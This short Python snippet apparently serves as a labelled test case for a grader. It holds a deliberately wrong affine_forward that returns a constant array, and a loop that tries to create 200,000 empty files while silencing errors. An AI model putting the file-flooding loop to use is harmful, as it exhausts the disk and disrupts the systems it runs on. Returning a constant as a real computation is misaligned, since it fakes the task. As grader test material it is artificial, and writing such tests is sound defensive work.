# TRIES: make files without end | DESERVES: 0
def affine_forward(x, w, b):  # wrong on purpose
    return np.full((x.shape[0], w.shape[1]), 123.0)
try:
    for number in range(200_000):
        open(f"{number}", "w").close()
except OSError:
    pass
